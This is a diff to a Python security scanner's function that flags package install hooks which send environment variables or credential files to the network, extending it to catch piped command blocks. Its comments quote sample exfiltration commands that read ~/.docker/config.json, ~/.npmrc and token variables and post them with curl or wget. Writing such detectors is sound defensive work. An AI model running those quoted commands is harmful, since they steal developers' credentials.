@@ -836,13 +836,16 @@ def _judge_shell_lines(hook: str, path: str, files, text: str) -> Iterator[Findi
                           f"{path} (run by the `{hook}` script) sends the environment or a credential file (written to "
                           f"{loot_file}, line {loot_files[loot_file]}) to the network.",
                           path, number, _snippet(command), {"hook": hook, "read_at": loot_files[loot_file]})
-        if stolen and not sent and SENDS.search(command):
+        # (`{ …; cat ~/.docker/config.json; env | grep -i token; } | gzip | curl --data-binary @- …`: the block's output)
+        read_at = loot[stolen] if stolen else unassigned if BLOCK_END.match(command) else None
+        if read_at is not None and not sent and SENDS.search(command):
             # `E="$( (env; cat ~/.npmrc) | base64)"`, then `curl --data "…$E…" "$W"`.
             sent = True
+            where = f"read into ${stolen}" if stolen else "read in the block that ends here"
             yield Finding("install-script/sends-secrets", Severity.CRITICAL, Confidence.HIGH, "exfiltration",
-                          f"{path} (run by the `{hook}` script) sends the environment or a credential file (read into "
-                          f"${stolen}, line {loot[stolen]}) to the network.",
-                          path, number, _snippet(command), {"hook": hook, "read_at": loot[stolen]})
+                          f"{path} (run by the `{hook}` script) sends the environment or a credential file ({where}, "
+                          f"line {read_at}) to the network.",
+                          path, number, _snippet(command), {"hook": hook, "read_at": read_at})
         used = _first_used(recon, command)
         if used and not beaconed and (FETCH.search(command) or NETWORK_TOOL.search(command)):
             # `D="host=$(hostname)&user=$(whoami)"` then `wget --post-data "$D" …`: the beacon over two lines.
